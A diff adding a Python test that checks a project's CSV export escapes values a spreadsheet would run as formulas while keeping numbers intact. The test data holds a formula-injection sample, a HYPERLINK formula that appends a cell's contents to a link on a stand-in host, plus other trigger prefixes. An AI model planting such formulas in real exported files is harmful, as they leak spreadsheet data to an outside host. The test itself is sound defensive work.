@@ -89,3 +89,17 @@ def test_a_missing_value_is_shown_as_nothing_in_every_formatter(value):
     from ledger.site import format as fmt
 
     assert (fmt.h(value), fmt.md(value), fmt.num(value), fmt.day(value), fmt.safe_url(value), fmt.figure(value)) == ("",) * 6
+
+
+def test_published_csvs_neutralise_what_a_spreadsheet_would_run_and_keep_numbers():
+    import io
+
+    from ledger.common.spreadsheet import csv_text, neutralise
+
+    assert neutralise("\rCR") == "'\rCR" and neutralise(-1) == -1
+    names = ['=HYPERLINK("http://x.example/"&A1,"Click for MOA")', "+1+1 Sheriff", "-2 Police", "@SUM(A1)", "\tTab", "Plain Sheriff"]
+    frame = pd.DataFrame({"agency_name": names, "active": range(-3, 3), "share": [0.5, -0.25, None, 1.0, 2.0, 3.0]})
+    back = pd.read_csv(io.StringIO(csv_text(frame)), keep_default_na=False)
+    assert all(not str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in back["agency_name"])
+    assert back["agency_name"].tolist()[0] == "'" + names[0] and back["agency_name"].tolist()[-1] == "Plain Sheriff"
+    assert back["active"].tolist() == [-3, -2, -1, 0, 1, 2]  # numbers stay numbers, signs included
